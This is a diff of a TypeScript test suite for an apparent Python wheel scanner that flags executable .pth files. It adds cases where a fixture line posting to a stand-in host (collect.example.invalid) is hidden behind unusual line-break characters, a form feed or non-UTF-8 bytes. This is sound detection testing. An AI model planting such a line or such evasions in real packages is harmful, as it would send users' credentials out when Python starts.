@@ -10,7 +10,7 @@ import { join } from 'node:path';
 const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
 
 /** What is found in a wheel with this file beside the package, with the line, and how grave it is. */
-async function found(text: string, path = 'garden.pth'): Promise<readonly string[]> {
+async function found(text: string | Buffer, path = 'garden.pth'): Promise<readonly string[]> {
   const name = 'garden-1.0-py3-none-any.whl';
   const files = { 'garden/__init__.py': '', 'garden-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: garden\nVersion: 1.0\n', [path]: text };
   return await inFolder(async (folder) => {
@@ -25,6 +25,19 @@ const SENDS = 'import os, requests; requests.post("https://collect.example.inval
 test('what a line of a .pth file does is judged as code that runs when Python starts', async () => {
   expect(await found(`./plugins\n${SENDS}\n`)).toContain('critical credentials-to-network 2');
   expect(await found(SENDS, 'garden/models/large/weights.pth')).not.toContain('critical credentials-to-network 1');
+});
+
+test.each(['\x0B', '\x0C', '\x1C', '\x1D', '\x1E', '\x85', '\u2028', '\u2029'])('what Python 3.13 takes for a new line of its own is code (%j)', async (end) => {
+  expect(await found(`./plugins${end}${SENDS}\n`)).toEqual(expect.arrayContaining(['critical credentials-to-network 3', 'critical executable-pth 3']));
+  expect(await found(`import garden # the plugins${end}${SENDS}\n`)).toContain('critical credentials-to-network 3');
+});
+
+test('a form feed within a line of code is blank space to Pythons before 3.13', async () => {
+  expect(await found(SENDS.replace(';', '\x0C;'))).toContain('critical credentials-to-network 1');
+});
+
+test('a file that is no UTF-8 is read as well', async () => {
+  expect(await found(Buffer.concat([Buffer.from([0xe9, 0x85]), Buffer.from(SENDS)]))).toContain('critical credentials-to-network 3');
 });
 
 test('what a line keeps in a text and executes is judged where the line stands', async () => {
